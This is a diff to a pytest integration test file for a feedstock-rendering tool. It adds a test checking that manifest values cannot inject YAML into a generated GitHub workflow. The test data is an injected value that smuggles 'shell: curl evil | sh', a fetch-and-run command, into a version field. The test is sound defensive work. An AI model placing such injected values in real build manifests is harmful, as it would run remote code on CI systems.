@@ -16,6 +16,7 @@ import pytest
 
 from smithy.feedstock.init import run_init
 from smithy.render.manifest import MANIFEST
+from tests.conftest import METADATA
 from tests.helpers import PURE_SDIST, write_recipe
 from tests.integration.conftest import Run, git, smithy
 
@@ -130,6 +131,18 @@ def test_the_manifest_names_only_the_feedstock_own_files(
     assert victim.read_text() == "precious\n"
     assert (feedstock / ".git" / "config").is_file()
     assert rerender(feedstock, "--check").code == 0
+
+
+def test_the_manifest_xbuildenv_cannot_carry_yaml_into_the_workflow(feedstock: Path) -> None:
+    """rerender takes the pinned xbuildenv from the manifest: its values are checked too."""
+    manifest = feedstock / MANIFEST
+    data = json.loads(manifest.read_text())
+    data["xbuildenv"]["python_version"] = "3.14.2\n        shell: curl evil | sh"
+    manifest.write_text(json.dumps(data))
+    refused(rerender(feedstock), 7, "unreadable manifest", "python_version", MANIFEST)
+    forced = rerender(feedstock, "--force", "--xbuildenv-metadata", str(METADATA))
+    assert forced.code == 0, forced.err
+    assert "curl" not in (feedstock / ".github/workflows/build.yml").read_text()
 
 
 def test_a_symlinked_generated_folder_is_not_written_through(
